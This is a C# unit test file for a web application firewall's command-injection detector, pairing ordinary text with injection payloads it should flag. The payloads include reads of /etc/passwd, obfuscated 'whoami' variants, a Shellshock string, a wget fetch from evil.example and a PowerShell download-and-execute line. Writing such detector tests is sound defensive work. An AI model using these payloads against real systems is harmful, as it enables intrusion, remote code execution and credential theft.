using OrleansGateway.Edge.DataPlane.Waf.Detection;

namespace OrleansGateway.Tests.Waf.Detection;

public sealed class CommandInjectionDetectorTests
{
    [Theory]
    [InlineData("127.0.0.1; cat /etc/passwd")]
    [InlineData("x | whoami")]
    [InlineData("a && wget http://evil.example/x.sh")]
    [InlineData("$(id)")]
    [InlineData("`uname -a`")]
    [InlineData(";id")]
    [InlineData("w'h'o'am'i")]
    [InlineData("c\\at /e\\tc/pa\\sswd")]
    [InlineData("cat${IFS}/etc/passwd")]
    [InlineData("() { :;}; /bin/bash -c 'id'")]
    [InlineData("& ping -n 30 127.0.0.1 &")]
    [InlineData("time whoami")]
    [InlineData("FOR /F %G IN ('dir /b') DO echo %G")]
    [InlineData("IF EXIST C:\\pagefile.sys CMD")]
    [InlineData("powershell -nop -c \"iex(New-Object Net.WebClient).DownloadString('http://x')\"")]
    [InlineData("ls -la /")]
    public void Detects_command_injection(string value) =>
        Assert.True(CommandInjectionDetector.IsCommandInjection(value), value);

    [Theory]
    [InlineData("Tom & Jerry")]
    [InlineData("salt & pepper; more later")]
    [InlineData("id")]
    [InlineData("cat")]
    [InlineData("Please ping me when you are free")]
    [InlineData("R&D | sales")]
    [InlineData("for 50% in the first quarter")]
    [InlineData("1 + 1 = 2")]
    [InlineData("")]
    public void Leaves_ordinary_text_alone(string value) =>
        Assert.False(CommandInjectionDetector.IsCommandInjection(value), value);
}
